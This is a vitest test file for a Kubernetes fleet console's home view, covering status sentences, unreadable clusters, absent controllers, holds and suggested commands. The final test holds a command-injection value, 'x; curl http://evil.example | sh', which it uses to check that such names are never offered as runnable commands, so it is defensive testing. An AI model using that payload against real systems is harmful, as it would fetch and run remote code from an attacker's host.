// The console's first line: nothing shows as healthy that is undeclared, unread, or forbidden.
import { expect, test } from 'vitest'
import type { ProgramState } from '../program-state.ts'
import { type WatchedKind, WATCHED_KINDS } from '../watched-kinds.ts'
import { clusterWith, HOME_AT, HOME_STATES, type Seen } from '#test/support/console/home-states.ts'
import { homeOf } from './home.ts'
import type { ReadableCluster } from './programs.ts'

const AT = HOME_AT

const home = (...seen: readonly Seen[]) => homeOf(seen.map(clusterWith), AT)

const release = { metadata: { name: 'fleet-1' }, spec: {}, status: { phase: 'Succeeded' } }
const machine = { metadata: { name: 'm-1' }, state: { phase: 'Ready', isReady: true } }
const source = { metadata: { name: 'fleet', namespace: 'fleet' }, spec: {}, status: {} }
const hosted = { metadata: { name: 'edge' }, spec: { controlPlane: { flavor: 'Embedded' } } }
const registered = { metadata: { name: 'edge' }, spec: { kubeconfigSecretRef: { name: 'edge' } } }

const look = (program: ProgramState['program'], more: Partial<ProgramState> = {}): ProgramState => ({
  metadata: { name: `kubenode-${program}` },
  program,
  state: 'Runs',
  ...more,
})
const away = (program: ProgramState['program'], how: ProgramState['how'] = 'Stopped', since: number | null = AT) =>
  look(program, { state: 'Away', how, ...(since !== null && { since }) })

test.each<readonly [string, Seen, string, number]>([
  ['nothing was declared in', {}, 'No release and no machine yet.', 0],
  ['has a release', { lists: { releases: [release] } }, 'Nothing needs attention.', 0],
  [
    'has machines that may not be read',
    { without: ['machines'], lists: { releases: [release] } },
    'Nothing known needs attention; 1 cluster known only in part.',
    1,
  ],
  [
    'has programs whose leases may not be read',
    { without: ['programs'], lists: { releases: [release] } },
    'Nothing known needs attention; 1 cluster known only in part.',
    1,
  ],
  [
    'has releases that cannot be read now',
    { lists: { machines: [machine] }, readState: { releases: 'Failed' } },
    'Nothing known needs attention; 1 cluster known only in part.',
    1,
  ],
  [
    'has releases that were not read yet',
    { lists: { machines: [machine] }, readState: { releases: 'Loading' } },
    'Nothing needs attention so far; 1 cluster still loading.',
    1,
  ],
  [
    'has programs that are watched since a moment ago',
    { lists: { machines: [machine] }, readState: { programs: 'Loading' } },
    'Nothing needs attention so far; 1 cluster still loading.',
    1,
  ],
])('the home of a cluster that %s says so', (_, seen, sentence, unknown) => {
  const { head } = home(seen)
  expect(head).toMatchObject({ sentence, unknown, needsAttention: 0 })
})

test('without any cluster nothing is known', () => {
  expect(home().head).toMatchObject({ sentence: 'No cluster can be read.', unknown: 1 })
})

test('while it is unknown what the reader may read, it is not an empty fleet', () => {
  const cluster: ReadableCluster = { ...clusterWith({ without: WATCHED_KINDS }), isUnknown: true }
  const { rows, head } = homeOf([cluster], AT)
  expect(rows.map(({ text }) => text)).toEqual([
    'cluster test: the cluster does not answer, so what you may read there is unknown',
  ])
  expect(head.sentence).toBe('Nothing known needs attention; 1 cluster known only in part.')
})

test('what a reader may not read is named, with the parts that are missing for it', () => {
  const { rows } = home({ without: ['ledgers', 'rules', 'programs'] }, {})
  expect(rows.map(({ weight, text }) => [weight, text])).toEqual([
    [
      'Unknown',
      'cluster test is known in part: not included: budgets, repairs, heartbeats of the programs; you lack the right to read them',
    ],
  ])
})

test('a kind whose reading fails while others answer is named', () => {
  const [row] = home({ readState: { releases: 'Failed', programs: 'Failed' } }).rows
  expect(row?.text).toBe('cluster test is known in part: cannot be read now: releases, heartbeats of the programs')
})

test('a program that is away comes first: since when, what that stops, and the command', () => {
  const { head, rows } = home({ lists: { machines: [machine], programs: [look('controllers'), away('defender')] } })
  expect(head.sentence).toBe('1 thing needs attention: the Defender is away (test)')
  expect(rows).toEqual([
    {
      id: 'test/Cluster//test/program/defender',
      cause: 'program/defender',
      object: { cluster: 'test', kind: 'Cluster', name: 'test' },
      weight: 'Act',
      rank: 0,
      text: 'the Defender is away: no permit is granted, so disruptions do not begin',
      since: AT,
      lift: { text: 'kubenode check', isCommand: true },
      runbook: 'docs/operations/three-in-the-morning.md',
    },
  ])
})

const nothing = 'cluster that has nothing for it to do'
test.each<readonly [ProgramState, string, NonNullable<Seen['lists']>, readonly WatchedKind[], boolean]>([
  [away('controllers'), nothing, {}, [], true],
  [away('controllers', 'Released'), nothing, {}, [], false],
  [away('controllers', 'Released'), 'cluster with machines', { machines: [machine] }, [], true],
  [away('controllers', 'Released'), 'cluster whose machines may not be read', {}, ['machines'], true],
  [away('controllers', 'Absent', null), nothing, {}, [], false],
  [away('controllers', 'Absent', null), 'cluster with machines', { machines: [machine] }, [], true],
  [away('sync', 'Absent', null), 'member', { machines: [machine] }, [], false],
  [away('sync', 'Absent', null), 'hub with a source', { sources: [source] }, [], true],
  [away('sync', 'Released'), 'hub with a source', { sources: [source] }, [], true],
  [away('approver', 'Absent', null), 'cluster with machines', { machines: [machine] }, [], false],
  [away('approver', 'Released'), 'cluster with machines', { machines: [machine] }, [], true],
  [away('cluster', 'Released'), 'hub with a registered cluster', { clusters: [registered] }, [], false],
  [away('cluster', 'Released'), 'hub with a hosted cluster', { clusters: [hosted] }, [], true],
  [look('sync', { state: 'Unknown' }), 'hub with a source', { sources: [source] }, [], false],
])('%o in a %s', (program, _, lists, without, isReported) => {
  const { rows } = home({ lists: { ...lists, programs: [program] }, without })
  expect(rows.some(({ id }) => id.endsWith(`program/${program.program}`))).toBe(isReported)
})

test('a program that was never there is told apart from one that ended', () => {
  const lists = { sources: [source], programs: [away('sync', 'Absent', null)] }
  expect(home({ lists }).rows[0]?.text).toBe('sync has never run here: no commit is read, and no release continues')
})

test('who may not read the leases learns of no program', () => {
  const { rows } = home({ lists: { machines: [machine], programs: [away('defender')] }, without: ['programs'] })
  expect(JSON.stringify(rows)).not.toContain('Defender')
})

test('the first line names what is first in the list, the oldest, and leaves the rest to the list', () => {
  const waitingFor = { predicate: 'StageFailed', seen: '1 of 1 cluster failed: test', since: '2026-01-05T02:00:00Z' }
  const paused = { metadata: { name: 'fleet-2' }, spec: {}, status: { phase: 'Paused', waitingFor } }
  const base = {
    metadata: { name: 'base' },
    spec: {},
    status: {
      phase: 'Blocked',
      waitingFor: { ...waitingFor, since: '2026-01-05T01:59:00Z', seen: 'beacon: 1 failed' },
    },
  }
  const { head } = home({ lists: { releases: [paused], sets: [base] } })
  expect(head.sentence).toBe('2 things need attention, the first: set base is Blocked (test)')
})

test('what one cause stops in two places is one card below the first line, and counts once', () => {
  const seen = { lists: { machines: [machine], programs: [away('defender')] } }
  const { head, rows } = home(seen, seen)
  expect(rows).toHaveLength(2)
  expect([head.needsAttention, head.sentence]).toEqual([1, '1 thing needs attention: the Defender is away (test)'])
})

const hold = (effect: string, target: object, until = '2026-01-05T03:00:00Z') => ({
  metadata: { name: 'freeze-all' },
  spec: { effect, target, author: 'eve', reason: 'a look at the graphs', until },
})
const everything = { kind: 'Cluster', selector: {} }

test('a cluster that is frozen says so, although no object of it waits', () => {
  const { head, rows } = home({ lists: { machines: [machine], holds: [hold('Freeze', everything)] } })
  expect(head.sentence).toBe('Nothing needs attention; 1 hold.')
  expect(rows).toMatchObject([
    {
      weight: 'Wait',
      text: 'cluster test is frozen by eve until Mon 5 Jan 03:00 UTC: a look at the graphs',
      lift: { text: 'kubenode thaw', isCommand: true },
    },
  ])
})

test.each([
  ['that has ended', hold('Freeze', everything, '2026-01-05T02:00:00Z')],
  ['that lets a repair start', hold('Retry', { kind: 'Node', name: 'n-1' })],
])('a hold %s stops nothing', (_, one) => {
  expect(home({ lists: { machines: [machine], holds: [one] } }).rows).toEqual([])
})

test.each(HOME_STATES)('Home $name says so', ({ seen, sentence, weights }) => {
  const { head, rows } = home(seen)
  expect([head.sentence, rows.map(({ weight }) => weight)]).toEqual([sentence, weights])
})

test('a cluster that does not answer is not counted as connected, although its watches have not ended yet', () => {
  const cluster = clusterWith({ lists: { machines: [machine] } })
  const { clusters } = homeOf([{ ...cluster, isUnknown: true }], AT).head
  expect(clusters).toEqual({ total: 1, connected: 0 })
})

test('no command is offered with a name that a shell would read as more than a word', () => {
  const name = 'x; curl http://evil.example | sh'
  const hold = {
    metadata: { name },
    spec: { effect: 'Pause', author: 'a', reason: 'r', until: '2099-01-01T00:00:00Z', target: { kind: 'Cluster' } },
  }
  const { rows } = home({
    lists: {
      holds: [hold],
      machines: [{ metadata: { name }, state: { phase: 'Failed', reason: '' }, since: 0 }],
      releases: [
        {
          metadata: { name },
          spec: {},
          status: { phase: 'Paused', waitingFor: { predicate: 'X', unblock: `run kubenode why ${name}` } },
        },
      ],
      rules: [
        { metadata: { name: 'r' }, status: { matching: [{ node: name, since: '', reason: 'LadderExhausted' }] } },
      ],
      permits: [
        { metadata: { name }, status: { phase: 'Requested', gates: [{ gate: 'Approval', verdict: 'Waiting' }] } },
      ],
    },
  })
  const lifts = rows.flatMap((row) => (row.lift?.text.includes('curl') === true ? [row.lift] : []))
  expect(lifts.length).toBeGreaterThan(3)
  expect(lifts.filter(({ isCommand }) => isCommand)).toEqual([])
})
